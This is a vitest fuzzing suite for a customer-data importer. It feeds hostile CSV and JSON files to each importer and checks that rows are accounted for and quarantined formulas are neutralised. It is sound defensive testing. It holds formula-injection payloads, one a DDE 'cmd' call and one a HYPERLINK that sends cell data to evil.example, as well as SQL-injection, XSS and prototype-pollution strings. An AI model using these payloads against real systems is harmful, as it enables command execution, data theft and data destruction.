import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readFileSync } from 'node:fs'
import { parse as parseCsv } from 'csv-parse/sync'
import type { ImportKind, ImportResult } from '@portrait/core'
import { tempPortrait } from '../testing/temp.js'

/**
 * Hostile files for every importer, generated from a seeded PRNG so that a failure can be
 * replayed. Invariants: the import answers a Result (never throws), every data row is accounted
 * for exactly once, each rejection carries a reason, the quarantine file neutralises formula
 * cells, and the database still takes a normal import afterwards.
 */

/** mulberry32: small, fast, and good enough to pick test cases. */
function prng(seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

class Gen {
  readonly next: () => number
  constructor(seed: number) {
    this.next = prng(seed)
  }
  int(n: number): number {
    return Math.floor(this.next() * n)
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)] as T
  }
  chance(p: number): boolean {
    return this.next() < p
  }
}

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
]
const SQLI = ["' OR '1'='1", "x'); DROP TABLE customers; --", '"; DELETE FROM orders; --']
const MARKUP = ['<img src=x onerror=alert(1)>', '<script>alert(2)</script>']
const CONTROL = ['\u0000', '\u0001', '\u0007', '\u001b[31m', '\u007f', '\u2028', '\u202e', '\ufeff']
/** A marker the writer turns into bytes that are not UTF-8 (always followed by an ASCII letter). */
const BAD_BYTES = '\u{F0000}'

/** Valid values per canonical field, so that some rows get through and are stored. */
function validValue(g: Gen, field: string, row: number): string {
  const day = `2025-${String(1 + g.int(12)).padStart(2, '0')}-${String(1 + g.int(28)).padStart(2, '0')}`
  switch (field) {
    case 'customer_id':
    case 'userId':
      return `C${g.int(60)}`
    case 'anonymousId':
      return `dev-${g.int(40)}`
    case 'order_id':
      return `O${row}-${g.int(3)}`
    case 'feedback_id':
    case 'messageId':
      return `M${row}`
    case 'email':
      return `u${g.int(80)}@example.com`
    case 'phone':
      return `138${String(10_000_000 + g.int(89_999_999))}`
    case 'gender':
      return g.pick(['F', 'M', '女', '男'])
    case 'age':
      return String(18 + g.int(60))
    case 'income':
    case 'amount':
    case 'unit_price':
    case 'spend':
      return (g.int(100_000) / 100).toFixed(2)
    case 'quantity':
    case 'line_no':
      return String(1 + g.int(5))
    case 'rating':
      return String(g.int(11))
    case 'granted':
      return g.pick(['true', 'false', 'yes', 'no', '1', '0'])
    case 'purpose':
      return g.pick(['analytics', 'email', 'sms', 'ads', 'profiling'])
    case 'type':
      return g.pick(['track', 'page', 'identify'])
    case 'event':
      return g.pick(['Signed Up', 'Order Completed', 'Page Viewed'])
    case 'properties':
    case 'context':
      return JSON.stringify({ path: '/p', n: g.int(9) })
    case 'ordered_at':
    case 'timestamp':
    case 'created_at':
    case 'recorded_at':
      return `${day}T10:00:00Z`
    case 'date':
    case 'birth_date':
      return day
    case 'city':
      return g.pick(['上海', '北京', 'Shenzhen', '成都'])
    case 'channel':
      return g.pick(['web', 'store', 'wechat'])
    case 'text':
      return g.pick(['很好', 'Great service', '物流太慢'])
    default:
      return `v${g.int(1000)}`
  }
}

/** A hostile cell. `huge` allows 1 MB fields (a few per file keep the test quick). */
function hostileValue(g: Gen, huge: boolean): string {
  switch (g.int(11)) {
    case 0:
    case 1:
      return g.pick(FORMULAS)
    case 2:
      return g.pick(SQLI)
    case 3:
      return g.pick(MARKUP)
    case 4:
      return `a${g.pick(CONTROL)}b${g.pick(CONTROL)}`
    case 5:
      return `${BAD_BYTES}x${BAD_BYTES}y`
    case 6:
      return huge ? 'H'.repeat(1024 * 1024) : 'L'.repeat(5000 + g.int(20_000))
    case 7:
      return g.pick(['NaN', 'Infinity', '-0', '1e400', '0x1F', '９９', '1,234.5', '', ' ', 'null', 'undefined'])
    case 8:
      return g.pick(['2025-02-30', '9999-99-99', '0000-00-00T00:00:00Z', 'yesterday', '1/2/3/4'])
    case 9:
      return `line one\nline two\r\n"quoted" and ""doubled""`
    default:
      return g.pick(['{"nested":{"deep":[1,2,3]}}', '[1,2]', '{}', 'true', '{"__proto__":{"polluted":1}}'])
  }
}

const HEADERS: Record<ImportKind, readonly string[]> = {
  customers: ['customer_id', 'name', 'email', 'phone', 'gender', 'age', 'income', 'city', 'notes'],
  orders: ['order_id', 'customer_id', 'ordered_at', 'amount', 'currency', 'channel'],
  'order-lines': ['order_id', 'customer_id', 'ordered_at', 'sku', 'product_name', 'quantity', 'unit_price'],
  events: ['type', 'event', 'userId', 'anonymousId', 'timestamp', 'properties'],
  consents: ['customer_id', 'purpose', 'granted', 'recorded_at'],
  feedback: ['feedback_id', 'customer_id', 'text', 'rating', 'channel', 'created_at'],
  costs: ['date', 'channel', 'campaign', 'spend'],
}
const KINDS = Object.keys(HEADERS) as ImportKind[]

/** Text to bytes, with every BAD_BYTES marker replaced by bytes that are not valid UTF-8. */
function encode(text: string): Buffer {
  const parts = text.split(BAD_BYTES)
  const bad = Buffer.from([0xff, 0xfe, 0xc3])
  return Buffer.concat(parts.flatMap((p, i) => (i === 0 ? [Buffer.from(p, 'utf-8')] : [bad, Buffer.from(p, 'utf-8')])))
}

const quoted = (s: string): string => `"${s.replace(/"/g, '""')}"`

/**
 * A CSV file whose records are all well-formed (every cell quoted), so the number of data records
 * is known: `rows`. Cells are hostile, some rows have the wrong number of fields.
 */
function wellFormedCsv(g: Gen, kind: ImportKind, rows: number): Buffer {
  const header = HEADERS[kind]
  const lines = [header.map(quoted).join(',')]
  let huge = 2
  for (let r = 0; r < rows; r++) {
    let cells = header.map((f) => (g.chance(0.35) ? hostileValue(g, huge-- > 0) : validValue(g, f, r)))
    if (g.chance(0.05)) cells = cells.slice(0, 1 + g.int(cells.length - 1))
    else if (g.chance(0.03)) cells = [...cells, ...Array.from({ length: 3000 }, () => 'w')]
    lines.push(cells.map(quoted).join(','))
  }
  return encode(`${lines.join(g.chance(0.5) ? '\r\n' : '\n')}\n`)
}

/** NDJSON whose lines are all non-blank: one record each, objects or not, some broken. */
function ndjson(g: Gen, kind: ImportKind, rows: number): Buffer {
  const header = HEADERS[kind]
  const lines: string[] = []
  for (let r = 0; r < rows; r++) {
    const roll = g.int(20)
    if (roll === 0) lines.push(g.pick(['[1,2,3]', 'null', '42', '"text"', 'true']))
    else if (roll === 1) lines.push(`{"${header[0]}": "unterminated`)
    else if (roll === 2) lines.push(`{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`)
    else {
      const obj: Record<string, unknown> = {}
      for (const f of header) {
        const odd = g.int(12)
        obj[f] =
          odd === 0
            ? null
            : odd === 1
              ? [validValue(g, f, r)]
              : odd === 2
                ? { value: validValue(g, f, r), deeper: { x: [1, { y: null }] } }
                : odd === 3
                  ? Number(g.int(1000))
                  : odd === 4
                    ? hostileValue(g, false)
                    : odd === 5
                      ? g.chance(0.5)
                      : validValue(g, f, r)
      }
      if (g.chance(0.02)) obj.deep = JSON.parse('['.repeat(3000) + ']'.repeat(3000)) as unknown
      lines.push(JSON.stringify(obj))
    }
  }
  return encode(`${lines.join('\n')}\n`)
}

/** A JSON array of `rows` elements, objects and non-objects. */
function jsonArray(g: Gen, kind: ImportKind, rows: number): Buffer {
  const header = HEADERS[kind]
  const items: unknown[] = []
  for (let r = 0; r < rows; r++) {
    if (g.chance(0.1)) {
      items.push(g.pick([null, 7, 'x', [1, 2], true]))
      continue
    }
    const obj: Record<string, unknown> = {}
    for (const f of header) obj[f] = g.chance(0.3) ? g.pick([null, {}, [], 1e308, '', hostileValue(g, false)]) : validValue(g, f, r)
    items.push(obj)
  }
  return encode(JSON.stringify(items))
}

/** A CSV that is not well-formed: stray quotes, random bytes, garbage lines. Rows cannot be counted in advance. */
function chaoticCsv(g: Gen, kind: ImportKind, lines: number): Buffer {
  const header = HEADERS[kind].join(',')
  const parts: Buffer[] = [Buffer.from(`${header}\n`)]
  for (let i = 0; i < lines; i++) {
    const roll = g.int(6)
    if (roll === 0) parts.push(Buffer.from(Array.from({ length: 1 + g.int(200) }, () => g.int(256))))
    else if (roll === 1) parts.push(Buffer.from(`"unclosed,${g.pick(FORMULAS)},x"y"z,"`))
    else if (roll === 2) parts.push(Buffer.from(`a"b,c""d,"e"f"`))
    else parts.push(encode(HEADERS[kind].map((f) => (g.chance(0.3) ? hostileValue(g, false) : validValue(g, f, i))).join(',')))
    parts.push(Buffer.from(g.chance(0.9) ? '\n' : '\r'))
  }
  return Buffer.concat(parts)
}

/** The quarantine file: one record per rejected row, each with a reason and no live formula. */
function checkQuarantine(result: ImportResult): void {
  if (result.rejected === 0) {
    expect(result.quarantine).toBeNull()
    return
  }
  expect(result.quarantine).toBeTruthy()
  const records = parseCsv(readFileSync(result.quarantine as string), { bom: true, relax_column_count: false }) as string[][]
  expect(records[0]).toEqual(['file', 'line', 'reason', 'row'])
  const data = records.slice(1)
  expect(data.length).toBe(result.rejected)
  for (const rec of data) {
    expect(rec).toHaveLength(4)
    expect(rec[2]?.trim()).not.toBe('')
    for (const cell of rec) {
      const live = /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
      if (live) throw new Error(`quarantine cell would run as a formula: ${cell.slice(0, 80)}`)
    }
  }
  for (const e of result.errors) expect(e.reason.trim()).not.toBe('')
  expect(result.errors.length).toBe(Math.min(100, result.rejected))
}

const accounted = (r: ImportResult): number => r.imported + r.rejected + r.duplicates + r.merged

describe('importer fuzzing', () => {
  let env: Awaited<ReturnType<typeof tempPortrait>>
  beforeAll(async () => {
    env = await tempPortrait()
  })
  afterAll(async () => {
    await env?.cleanup()
  })

  for (const [k, kind] of KINDS.entries()) {
    it(`${kind}: hostile files are answered, every row accounted for`, async () => {
      const g = new Gen(20_261_123 + k)
      const { portrait, file } = env
      const rows = 300

      for (const [name, content, expected] of [
        [`${kind}-wellformed.csv`, wellFormedCsv(g, kind, rows), rows],
        [`${kind}.ndjson`, ndjson(g, kind, rows), rows],
        [`${kind}.json`, jsonArray(g, kind, rows), rows],
      ] as const) {
        const r = await portrait.import(kind, file(name, content), { source: 'fuzz' })
        if (!r.ok) throw new Error(`${name}: ${r.error.tag}: ${r.error.message}`)
        expect(accounted(r.value), name).toBe(expected)
        checkQuarantine(r.value)
      }

      // Not well-formed: the row count is unknown, but never more than the physical lines.
      for (let i = 0; i < 4; i++) {
        const content = chaoticCsv(g, kind, 200)
        const physical = content.toString('latin1').split(/\r\n|\r|\n/).length - 1
        const r = await portrait.import(kind, file(`${kind}-chaos-${i}.csv`, content), { source: 'fuzz' })
        if (r.ok) {
          expect(accounted(r.value)).toBeGreaterThan(0)
          expect(accounted(r.value)).toBeLessThanOrEqual(physical)
          checkQuarantine(r.value)
        } else {
          expect(['Unreadable', 'EmptyInput', 'InvalidInput']).toContain(r.error.tag)
          expect(r.error.message).not.toBe('')
        }
      }

      // Files that cannot be read as a whole: a clear error, nothing imported.
      for (const [name, content] of [
        [`${kind}-broken.json`, Buffer.from('[{"a":1},')],
        [`${kind}-object.json`, Buffer.from('{"not":"an array"}')],
        [`${kind}-random.gz`, Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from(Array.from({ length: 500 }, () => g.int(256)))])],
        [`${kind}-empty.csv`, Buffer.from('')],
        [`${kind}-header-only.csv`, Buffer.from(`${HEADERS[kind].join(',')}\n`)],
        [`${kind}-bom-only.csv`, Buffer.from([0xef, 0xbb, 0xbf])],
        [`${kind}-fake.parquet`, Buffer.from('PAR1 this is not parquet PAR1')],
      ] as const) {
        const r = await portrait.import(kind, file(name, content), { source: 'fuzz' })
        expect(r.ok, name).toBe(false)
        if (!r.ok) expect(r.error.message, name).not.toBe('')
      }
    })
  }

  it('resolves the fields of JSON records one key set at a time', async () => {
    const { portrait, file } = env
    const orders = [
      '{"__proto__":{"polluted":"yes"},"note":"no order fields"}',
      '{"order_id":"J1","ordered_at":"2025-03-01","amount":"10"}',
      '{"order_id":"J2","ordered_at":"2025-03-02","amount":20,"channel":"web"}',
    ].join('\n')
    const r = await portrait.import('orders', file('mixed.ndjson', orders))
    expect(r.ok && r.value).toMatchObject({ imported: 2, rejected: 1, errors: [{ line: 1 }] })
    expect(r.ok && r.value.errors[0]?.reason).toMatch(/^the record has no order_id, ordered_at, amount column/)
    // A key first seen in a later record is not lost: it becomes a trait of that customer.
    const customers = '{"customer_id":"J-A"}\n{"customer_id":"J-B","loyalty_tier":"gold"}\n'
    expect((await portrait.import('customers', file('mixed-customers.ndjson', customers))).ok).toBe(true)
    const b = await portrait.profile('J-B')
    expect(b.ok && b.value.traits).toMatchObject({ loyalty_tier: 'gold' })
    // A file where no record has the fields is still refused as a whole.
    const none = await portrait.import('orders', file('none.ndjson', '{"a":1}\n{"b":2}\n'))
    expect(!none.ok && none.error.message).toMatch(/has no order_id, ordered_at, amount column/)
  })

  it('has no polluted prototypes, and the database takes normal imports afterwards', async () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    const { portrait, file } = env
    const before = await portrait.overview()
    const c = await portrait.import(
      'customers',
      file('after-customers.csv', 'customer_id,name,email\nAFTER-1,After One,after1@example.com\n'),
    )
    expect(c.ok && c.value).toMatchObject({ imported: 1, rejected: 0 })
    const o = await portrait.import(
      'orders',
      file('after-orders.csv', 'order_id,customer_id,ordered_at,amount\nAFTER-O1,AFTER-1,2025-06-01,12.5\n'),
    )
    expect(o.ok && o.value).toMatchObject({ imported: 1, rejected: 0 })
    const after = await portrait.overview()
    expect(after.customers).toBe(before.customers + 1)
    expect(after.orders).toBe(before.orders + 1)
    const one = (await portrait.listCustomers({ q: 'after1@example.com' })).items
    expect(one).toMatchObject([{ customer_id: 'AFTER-1', name: 'After One', email: 'after1@example.com' }])
  })
})
